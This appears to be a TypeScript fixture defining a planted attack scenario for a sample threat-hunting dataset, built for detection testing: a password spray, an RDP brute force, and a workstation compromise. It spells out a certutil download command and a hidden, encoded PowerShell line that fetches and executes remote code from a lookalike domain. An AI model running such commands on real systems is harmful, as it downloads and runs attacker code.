/**
 * The attack planted in the sample dataset, as fixed values (independent of
 * the seed) so that tests and the README can name what each sample hunt finds.
 *
 * The story: an external IP sprays passwords at Entra ID and gets into one
 * mailbox; another brute-forces the internet-facing RDS server's local
 * Administrator and gets in; on one workstation a user's Word spawns cmd,
 * certutil downloads x.exe (a known-bad hash), x.exe runs an encoded
 * PowerShell command, and the workstation beacons to a rare domain until the end.
 *
 * Attacker addresses are public (not private or documentation ranges), so
 * enrichment does not skip them as non-public.
 */

/** PowerShell -EncodedCommand takes UTF-16LE base64. */
const encodePowerShell = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

const victimWorkstation = 'CON-WS-0042';
const beaconDomain = 'cdn-metricsync.net';
const downloadUrl = 'http://dl.softcdn-update.com/x.exe';
const encodedScript = `IEX ((New-Object Net.WebClient).DownloadString('https://${beaconDomain}/api/v2/init'))`;

export const planted = {
  /** Password spray against Entra ID (SigninLogs, ResultType 50126). */
  sprayIp: '185.220.101.47',
  sprayTargetCount: 30,
  /** The one account the spray got into (ResultType 0 from sprayIp). */
  sprayCompromisedUpn: 'lena.okafor@contoso.com',

  /** Brute force (4625 x many) then success (4624) against one server. */
  bruteForceIp: '45.155.205.233',
  bruteForceAccount: 'Administrator',
  bruteForceComputer: 'CON-RDS01.contoso.com',
  bruteForceFailures: 36,

  /** The compromised workstation: certutil download, known-bad binary, encoded PowerShell, beacon. */
  victimUser: 'dana.whitfield',
  victimWorkstation,
  /** SecurityEvent.Computer spelling. */
  victimComputer: `${victimWorkstation}.contoso.com`,
  /** DeviceProcessEvents.DeviceName spelling (lower case, as Defender writes it). */
  victimDeviceName: `${victimWorkstation.toLowerCase()}.contoso.com`,
  victimIp: '10.20.0.61',

  downloadUrl,
  downloadIp: '91.215.85.17',
  certutilCommandLine: `certutil.exe -urlcache -split -f ${downloadUrl} C:\\Users\\Public\\x.exe`,

  /**
   * x.exe carries the EICAR test file's hashes: every engine reports them as
   * detected, so enrichment later has a real verdict to show, and nothing is harmful.
   */
  knownBadFileName: 'x.exe',
  knownBadFolderPath: 'C:\\Users\\Public\\x.exe',
  knownBadSha256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
  knownBadSha1: '3395856ce81f2b7382dee72602f798b642f14140',
  knownBadMd5: '44d88612fea8a8f36de82e1278abb02f',

  encodedPowerShellScript: encodedScript,
  encodedPowerShellCommandLine: `powershell.exe -NoP -NonI -W Hidden -Enc ${encodePowerShell(encodedScript)}`,

  beaconDomain,
  beaconIp: '193.42.33.14',
  beaconIntervalSeconds: 60,
} as const;

export { encodePowerShell };

/** When each planted step happens, as milliseconds before the anchor. */
export const plantedOffsets = {
  spray: 5 * 86_400_000 + 2 * 3_600_000,
  bruteForce: 4 * 86_400_000 + 7 * 3_600_000,
  compromise: 3 * 86_400_000 + 5 * 3_600_000,
} as const;
